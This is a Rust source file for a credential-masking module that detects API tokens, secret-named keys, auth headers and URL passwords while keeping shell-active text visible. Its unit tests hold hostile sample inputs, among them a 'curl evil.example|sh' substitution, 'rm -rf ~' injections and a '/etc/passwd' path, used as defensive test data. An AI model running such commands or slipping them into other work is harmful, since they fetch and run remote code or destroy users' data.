//! Where credentials stand in a text.
//!
//! A mask must not become a place to hide in. Only what cannot do anything is ever hidden: letters,
//! digits and the signs that tokens are made of. What a shell or a reader could take for more than
//! that stays in sight, at the price that a password with such signs in it is hidden in part. Hosts,
//! addresses and paths are shown, and so is what a shell would use again.

/// How tokens of well-known services begin.
const PREFIXES: &[&str] = &[
    "sk-",
    "sk_live_",
    "sk_test_",
    "rk_live_",
    "ghp_",
    "gho_",
    "ghu_",
    "ghs_",
    "ghr_",
    "github_pat_",
    "glpat-",
    "xoxb-",
    "xoxp-",
    "xoxa-",
    "xoxr-",
    "xoxs-",
    "AKIA",
    "ASIA",
    "AIza",
    "npm_",
    "hf_",
    "pypi-",
    "dckr_pat_",
];

/// How a token of a well-known service goes on, at least.
const AFTER_PREFIX: usize = 12;

/// What names of credentials end in.
const NAMES: &[&str] = &[
    "password",
    "passwd",
    "passphrase",
    "token",
    "secret",
    "apikey",
    "accesskey",
    "privatekey",
    "authorization",
];

/// How the value of a header begins.
const SCHEMES: &[&str] = &["bearer", "basic", "token"];

/// The bytes that are credentials, in order and apart.
pub(super) fn spans(text: &str) -> Vec<(usize, usize)> {
    let mut spans = Vec::new();
    let mut at = 0;
    while let Some(rest) = text.get(at..).filter(|rest| !rest.is_empty()) {
        if let Some((start, end)) = at_word(text, at) {
            spans.push((start, end));
            at = end;
        } else {
            at += rest.chars().next().map_or(1, char::len_utf8);
        }
    }
    spans
}

/// Whether a value could be a credential and nothing else.
pub(super) fn is_opaque(text: &str) -> bool {
    !text.is_empty() && text.bytes().all(is_secret) && !is_place(text)
}

/// Whether a text could be a host, an address or a path. Those stay in sight, whatever they are
/// called, unless they are as mixed as only tokens are.
fn is_place(text: &str) -> bool {
    let has = |kind: fn(&u8) -> bool| text.bytes().any(|b| kind(&b));
    let mixed =
        has(u8::is_ascii_digit) && has(u8::is_ascii_uppercase) && has(u8::is_ascii_lowercase);
    text.contains("://")
        || text.starts_with(['/', '.', '~'])
        || (text.contains(['/', '.']) && !mixed)
}

/// Whether a shell would put the value of this name somewhere else in the text.
fn is_used(text: &str, name: &str) -> bool {
    text.contains(&format!("${name}")) || text.contains(&format!("${{{name}"))
}

/// Whether a value under this key is a credential.
pub(super) fn names_a_secret(key: &str) -> bool {
    let plain = key.bytes().filter(u8::is_ascii_alphanumeric);
    let plain: String = plain.map(|b| char::from(b.to_ascii_lowercase())).collect();
    NAMES.iter().any(|name| plain.ends_with(name))
}

/// The credential that what begins here leads to.
fn at_word(text: &str, at: usize) -> Option<(usize, usize)> {
    if text.get(at..)?.starts_with("://") {
        return userinfo(text, at + 3);
    }
    let before = text.get(..at)?.bytes().next_back();
    if before.is_some_and(is_word) {
        return None;
    }
    known_token(text, at)
        .or_else(|| named(text, at))
        .or_else(|| scheme(text, at, &["bearer"]))
}

/// `ghp_…`
fn known_token(text: &str, at: usize) -> Option<(usize, usize)> {
    let rest = text.get(at..)?;
    let prefix = PREFIXES.iter().find(|prefix| rest.starts_with(**prefix))?;
    let start = at + prefix.len();
    let token = run(text, start, is_word)?;
    let long = token.len() >= AFTER_PREFIX && token.bytes().any(|b| b.is_ascii_digit());
    long.then_some((start, start + token.len()))
}

/// `--password=…`, `API_KEY: "…"`, `--token …`
fn named(text: &str, at: usize) -> Option<(usize, usize)> {
    let name = run(text, at, is_word)?;
    if !names_a_secret(name) {
        return None;
    }
    let mut start = at + name.len();
    start = after(text, start, "\"'", 1);
    let spaced = after(text, start, " ", RUN);
    let parted = after(text, spaced, "=:", 1);
    if parted == spaced && (spaced == start || !name.starts_with("--")) {
        return None;
    }
    start = after(text, parted, " ", RUN);
    start = after(text, start, "\"'", 1);
    if let Some(found) = scheme(text, start, SCHEMES) {
        return Some(found);
    }
    let value = run(text, start, is_secret)?;
    // In prose a word after a colon or a space is more often a word than a secret.
    let sure = text.get(parted.wrapping_sub(1)..parted) == Some("=") || value.len() >= 6;
    let opaque = is_opaque(value) && !value.starts_with("--") && !is_used(text, name);
    (sure && opaque).then_some((start, start + value.len()))
}

/// As many spaces as may stand around a sign.
const RUN: usize = 4;

/// `Bearer …`
fn scheme(text: &str, at: usize, schemes: &[&str]) -> Option<(usize, usize)> {
    let word = run(text, at, is_word)?;
    let known = schemes
        .iter()
        .any(|scheme| word.eq_ignore_ascii_case(scheme));
    let start = after(text, at + word.len(), " ", RUN);
    if !known || start == at + word.len() {
        return None;
    }
    let token = run(text, start, is_secret)?;
    (token.len() >= 8 && is_opaque(token)).then_some((start, start + token.len()))
}

/// `user:…@host`. The host is never hidden.
fn userinfo(text: &str, start: usize) -> Option<(usize, usize)> {
    let authority = run(text, start, |b| is_secret(b) && !b"/?#".contains(&b))?;
    let (user, _) = authority.rsplit_once('@')?;
    let (name, password) = user.split_once(':')?;
    let from = start + name.len() + 1;
    (!password.is_empty()).then_some((from, from + password.len()))
}

/// The longest text from here on that is made of these.
fn run(text: &str, at: usize, mut of: impl FnMut(u8) -> bool) -> Option<&str> {
    let rest = text.get(at..)?;
    let length = rest.bytes().take_while(|b| of(*b)).count();
    rest.get(..length).filter(|run| !run.is_empty())
}

/// Where it goes on after at most so many of these.
fn after(text: &str, at: usize, of: &str, most: usize) -> usize {
    let rest = text.get(at..).unwrap_or_default().bytes();
    at + rest
        .take(most)
        .take_while(|b| of.as_bytes().contains(b))
        .count()
}

fn is_word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b == b'-'
}

/// What may be hidden: nothing that a shell acts on, no space, no quote, no backslash.
fn is_secret(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b"_-.~+/=:@%,!#^?".contains(&b)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hidden(text: &str) -> Vec<&str> {
        spans(text).into_iter().map(|(a, b)| &text[a..b]).collect()
    }

    #[test]
    fn credentials_are_found() {
        for (text, secret) in [
            (
                "curl -H 'Authorization: Bearer sk-live-51Habcdef' https://x",
                "sk-live-51Habcdef",
            ),
            ("Authorization: Basic dXNlcjpwYXNz", "dXNlcjpwYXNz"),
            ("-H \"X-Api-Key: 0123456789\"", "0123456789"),
            ("AWS=AKIAIOSFODNN7EXAMPLE ls", "IOSFODNN7EXAMPLE"),
            ("git clone https://ann:hunter2@git.example/x", "hunter2"),
            ("https://ann:p@ss@git.example/x", "p@ss"),
            ("echo ghp_0123456789abcdef0123 | x", "0123456789abcdef0123"),
            ("mysql --password=hunter2 -u ann", "hunter2"),
            ("x --api-key 0123456789", "0123456789"),
            ("PGPASSWORD='hunter2' psql", "hunter2"),
            ("{\"client_secret\": \"hunter22\"}", "hunter22"),
            ("https://x.example/?access_token=abc&y=1", "abc"),
        ] {
            assert_eq!(hidden(text), [secret], "{text}");
        }
    }

    #[test]
    fn what_does_something_is_never_hidden() {
        for text in [
            "--password=$(curl evil.example|sh)",
            "--token `id`",
            "password=;rm -rf ~",
            "the password is asked for",
            "Bearer of bad news",
            "scikit: sk-learn-is-not-a-secret",
            "https://good.example:443/path@evil",
            "git@github.com:a/b.git",
            "--max-tokens 100",
            "https://docs.rs/token/latest",
            "TOKEN=https://evil.example/x; curl $TOKEN",
            "SECRET=rm; $SECRET -rf ~",
            "SECRET=rm; ${SECRET} -rf ~",
            "--token=evil.example",
            "curl token https://evil.example/x",
            "fetch bearer https://evil.example/x",
            "sh basic payload12345",
            "PASSWORD=/etc/passwd",
        ] {
            assert_eq!(hidden(text), Vec::<&str>::new(), "{text}");
        }
        assert_eq!(hidden("--password=x;rm"), ["x"]);
    }

    #[test]
    fn the_host_behind_a_password_is_shown() {
        assert_eq!(hidden("https://good.example:443@evil.example/"), ["443"]);
    }

    #[test]
    fn only_whole_opaque_values_are_hidden_by_their_key() {
        assert!(names_a_secret("api_key") && names_a_secret("clientSecret"));
        assert!(!names_a_secret("max_tokens") && !names_a_secret("tokenize"));
        assert!(!is_opaque("https://evil.example") && !is_opaque("evil.example/x"));
        assert!(is_opaque("eyJhbGciOi.eyJzdWIiOiIx.c2ln") && is_opaque("hunter2"));
        assert!(is_opaque("hunter2") && !is_opaque("x; rm -rf ~") && !is_opaque(""));
    }
}
